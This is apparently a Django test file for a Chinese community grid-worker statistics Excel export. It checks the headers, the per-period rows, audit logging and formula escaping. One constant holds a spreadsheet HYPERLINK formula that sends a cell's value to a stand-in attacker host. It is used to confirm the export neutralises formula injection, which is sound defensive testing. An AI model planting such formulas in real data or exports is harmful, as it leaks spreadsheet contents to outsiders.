"""The counts export: Chinese headers, one row per worker per period, formula-like text kept as
text (ARCHITECTURE rule 7), and the export audited like the ledger exports."""

from __future__ import annotations

from io import BytesIO
from typing import Any

from django.test import Client
from openpyxl import load_workbook

from civicgrid.accounts.choices import Role
from civicgrid.core.models import AuditEntry
from civicgrid.fieldwork.tests.test_worklog_records import DAY, one_of_each
from civicgrid.testing.users import make_user

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此")'


def _sheet(user: Any, query: str) -> list[tuple[Any, ...]]:
    client = Client()
    client.force_login(user)
    response = client.get("/fieldwork/worklog/stats.xlsx?" + query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(BytesIO(response.content))
    return list(book.active.iter_rows(values_only=True))


def test_headers_rows_and_a_hostile_name(users: Any, city: Any) -> None:
    one_of_each(users, city)
    hostile = make_user("hostile", Role.GRID_WORKER, city.grids["a1_east"].code)
    hostile.full_name = HOSTILE
    hostile.save()
    rows = _sheet(users.secretary, f"period=day&date={DAY:%Y-%m-%d}")
    assert rows[0] == (
        "统计周期",
        "网格员",
        "所属社区",
        "负责网格",
        "巡查次数",
        "巡查时长(分钟)",
        "巡查里程(公里)",
        "入户走访",
        "上报事件",
        "核查事件",
        "台账维护",
        "任务事项",
    )
    body = rows[1:]
    assert len(body) == 2  # one row per worker of the community, for the one day
    by_name = {row[1]: row for row in body}
    assert by_name["worker"][4:] == (1, 45, 1.5, 1, 1, 1, 1, 0)
    assert by_name["worker"][0] == f"{DAY:%Y-%m-%d}"
    # Stored as text with the protecting apostrophe, never as a formula.
    assert ("'" + HOSTILE) in by_name
    assert HOSTILE not in by_name


def test_one_row_per_worker_per_period(users: Any, city: Any) -> None:
    rows = _sheet(users.cadre, f"period=week&date={DAY:%Y-%m-%d}&until=2026-12-01")
    assert [r[0] for r in rows[1:]] == ["2026-11-16~11-22", "2026-11-23~11-29", "2026-11-30~12-06"]


def test_the_export_is_audited(users: Any, city: Any) -> None:
    _sheet(users.command, f"period=month&date={DAY:%Y-%m-%d}")
    entry = AuditEntry.objects.get()
    assert (entry.actor, entry.action, entry.field) == (
        users.command,
        "worklog_export",
        "worklog_stats",
    )
    assert "1 名网格员" in entry.reason and "2026-11" in entry.reason
